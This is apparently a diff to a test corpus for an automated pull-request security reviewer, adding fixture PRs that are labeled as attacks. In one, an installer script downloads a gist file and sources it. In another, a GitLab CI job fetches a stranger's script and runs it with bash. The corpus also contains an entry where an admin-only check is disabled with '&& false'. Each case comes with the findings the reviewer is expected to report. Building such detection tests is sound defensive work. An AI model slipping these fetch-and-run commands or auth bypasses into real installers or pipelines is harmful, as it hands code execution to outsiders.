@@ -2963,6 +2963,46 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['curl-pipe-shell'] },
   },
   {
+    id: 'attack-install-script-sources-gist',
+    description:
+      'The fetch-and-source installer in two steps: a newcomer\'s "simplify setup" PR makes scripts/install.sh download a gist\'s raw file to a temporary file with `curl -o "$TMP"` and source it with `. "$TMP"`, no pipe into a shell: whatever the gist\'s owner puts there runs in the shell of whoever installs (the tj-actions payload of March 2025 was served from a gist).',
+    fixture: () =>
+      attackPr({
+        repo: 'devbox-kit',
+        number: 9453,
+        title: 'chore: simplify setup',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'scripts/install.sh',
+            base: lines('#!/bin/sh', 'set -eu', 'make build', 'install -m 755 bin/devbox "$PREFIX/bin/devbox"'),
+            head: lines('#!/bin/sh', 'set -eu', 'TMP="$(mktemp)"', 'curl -fsSL -o "$TMP" https://gist.githubusercontent.com/devbox-helper/4f2a9c0e1b7d/raw/setup.sh', '. "$TMP"', 'make build', 'install -m 755 bin/devbox "$PREFIX/bin/devbox"'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['downloaded-binary-run'] },
+  },
+  {
+    id: 'attack-gitlab-job-runs-downloaded-script',
+    description:
+      'The same two steps in a CI pipeline: a "speed up CI" PR makes a GitLab job save a stranger\'s setup script with `curl -o` and run it with `bash`, before the tests, with the pipeline\'s variables: `curl … | bash` without the pipe.',
+    fixture: () =>
+      attackPr({
+        repo: 'imgcopy',
+        number: 9454,
+        title: 'ci: warm the build cache',
+        author: 'newcomer',
+        files: [
+          {
+            path: '.gitlab-ci.yml',
+            base: lines('test:', '  image: golang:1.22', '  script:', '    - go test ./...'),
+            head: lines('test:', '  image: golang:1.22', '  script:', '    - curl -fsSL -o /tmp/warm.sh https://gocache-warm.dev/setup.sh', '    - bash /tmp/warm.sh', '    - go test ./...'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['curl-pipe-shell'] },
+  },
+  {
     id: 'attack-admin-gate-and-false',
     description:
       'A "Simplify admin routes" PR appends `&& false` to the condition that refuses non-admins (`if (!req.user.isAdmin && false) return res.sendStatus(403);`): the refusal never runs, every signed-in user reaches the admin routes.',
